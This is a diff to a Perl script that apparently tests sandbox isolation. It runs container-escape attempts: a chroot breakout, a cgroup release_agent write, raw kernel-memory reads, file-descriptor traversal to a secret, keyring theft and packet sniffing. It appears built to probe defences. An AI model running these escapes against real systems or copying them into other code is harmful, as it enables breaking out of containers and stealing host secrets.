@@ -7,7 +7,7 @@ my %number = (
   mount => [165, 40], unshare => [272, 97], mknodat => [259, 33], init_module => [175, 105], delete_module => [176, 106],
   kexec_load => [246, 104], reboot => [169, 142], adjtimex => [159, 171], ptrace => [101, 117], name_to_handle_at => [303, 264],
   open_by_handle_at => [304, 265], add_key => [248, 217], keyctl => [250, 219], syslog => [103, 116], bpf => [321, 280],
-  perf_event_open => [298, 241], io_uring_setup => [425, 425],
+  getpid => [39, 172], fchdir => [81, 50], perf_event_open => [298, 241], io_uring_setup => [425, 425],
 );
 sub call { my $name = shift; my @copy = @_; return syscall($number{$name}[$is_arm ? 1 : 0], @copy) }
 sub did { print "did: @_\n" }
@@ -19,9 +19,15 @@ sub device { my ($path, $kind, $major, $minor) = @_; unlink $path; call("mknodat
 sub processes { opendir my $proc, "/proc" or return; return grep { /^\d+$/ && $_ != $$ } readdir $proc }
 sub victims { return grep { (slurp("/proc/$_/cmdline") // "") =~ /gantry-victim/ } processes() }
 sub abstract { my ($name) = @_; socket my $to, 1, 1, 0 or return; connect $to, pack("S a*", 1, "\0$name") or return; sysread $to, my $got, 999; return $got }
+sub leave_root { mkdir "/tmp/c"; chdir "/"; chroot "/tmp/c" or return; chdir ".." for 1 .. 64; return chroot "." }
 my ($CHR, $BLK) = (0020000, 0060000);
 
 my %attacks = (
+  # What anybody may do: shows that this program reads, writes and makes system calls in the place it runs in.
+  able => sub {
+    spew((sysopen(my $made, "/tmp/able", 0102, 0600) and "/tmp/able"), "text") and slurp("/tmp/able") eq "text" and did("read and write");
+    did("system calls") if call("getpid") == $$;
+  },
   mount => sub {
     did("tmpfs") if mounted("none", "/tmp/m", "tmpfs", 0, 0);
     device("/tmp/disk", $BLK, $given{major}, $given{minor});
@@ -35,11 +41,18 @@ my %attacks = (
     spew("/proc/sys/$given{sysctl}", "$given{value}\n") and did("written");
     mounted("proc", "/tmp/p", "proc", 0, 0) and spew("/tmp/p/sys/$given{sysctl}", "$given{value}\n") and did("written through a new mount");
   },
-  sysrq => sub { spew("/proc/sysrq-trigger", "h") and did("triggered") },
+  sysrq => sub { # "h" only prints a help text
+    mounted("proc", "/tmp/q", "proc", 0, 0);
+    for ("/proc", "/tmp/q") { spew("$_/sysrq-trigger", "h") and did("triggered through $_") }
+  },
   disk => sub { loot(slurp($_)) for device("/tmp/raw", $BLK, $given{major}, $given{minor}), "/dev/loop$given{minor}" },
   kmsg => sub { for ("/dev/kmsg", device("/tmp/kmsg", $CHR, 1, 11)) { spew($_, "<4>$given{marker}\n") and did("written to $_") } },
-  memory => sub { for (device("/tmp/mem", $CHR, 1, 1), device("/tmp/port", $CHR, 1, 4), "/proc/kcore") { did("read $_") if length(slurp($_, 16) // "") } },
-  module => sub {
+  memory => sub {
+    mounted("proc", "/tmp/k", "proc", 0, 0); mounted("dev", "/tmp/dev", "devtmpfs", 0, 0);
+    my @made = (device("/tmp/mem", $CHR, 1, 1), device("/tmp/port", $CHR, 1, 4));
+    for (@made, "/tmp/dev/mem", "/tmp/dev/port", "/proc/kcore", "/tmp/k/kcore") { did("read $_") if length(slurp($_, 1) // "") }
+  },
+  module => sub { # bytes that are no module, and the name of none: whoever may do it gets another error than EPERM
     for ([init_module => "x" x 64, 64, ""], [delete_module => "gantry_none", 0x800]) {
       my ($name, @rest) = @$_;
       did("$name: $!") if call($name, @rest) < 0 && $! != 1 && $! != 38;
@@ -79,7 +92,9 @@ my %attacks = (
     for (grep { / cgroup / } split /\n/, slurp("/proc/self/mounts") // "") {
       my $at = (split / /)[1] . "/gantry-escape";
       mkdir $at or next;
+      my $before = slurp("$at/../release_agent") // "";
       spew("$at/../release_agent", "/tmp/agent\n") and did("release_agent written");
+      spew("$at/../release_agent", length $before ? $before : "\n");
       spew("$at/notify_on_release", "1\n") and did("release asked for");
       rmdir $at;
     }
@@ -112,7 +127,12 @@ my %attacks = (
       $id > 0 and syscall($number{keyctl}[$is_arm ? 1 : 0], 11, $id, $got, 99, 0) > 0 and loot($got);
     }
   },
-  userns => sub { did("new user and mount namespace") if call("unshare", 0x10020000) == 0 },
+  userns => sub {
+    for (0, 1) { # the kernel refuses it in a chroot, so leave that first
+      leave_root() if $_;
+      call("unshare", 0x10020000) == 0 and did("new user and mount namespace") and return;
+    }
+  },
   kernellog => sub {
     my $all = "\0" x 1048576;
     syscall($number{syslog}[$is_arm ? 1 : 0], 3, $all, length $all) > 0 and $all =~ /($given{hostmarker})/ and loot($1);
@@ -134,12 +154,13 @@ my %attacks = (
     for (my $end = time + 4; time < $end;) { recv $raw, my $frame, 2000, 0; loot($1) and return if $frame =~ /($given{sniffed})/ }
   },
   descriptors => sub {
-    for my $fd (3 .. 255) { loot(slurp("/proc/self/fd/$fd/../../../../../../../..$given{secret}")) }
+    for my $fd (3 .. 255) {
+      loot(slurp("/proc/self/fd/$fd/../../../../../../../..$given{secret}"));
+      call("fchdir", $fd) == 0 and loot(slurp("../../../../../../../..$given{secret}"));
+    }
   },
   chroot => sub {
-    mkdir "/tmp/c"; chdir "/"; chroot "/tmp/c" or return;
-    chdir ".." for 1 .. 64; chroot "." or return;
-    loot(slurp($given{secret}));
+    leave_root() and loot(slurp($given{secret}));
   },
   loopback => sub {
     for ([127, 0, 0, 1], [10, 126, 0, 1]) {
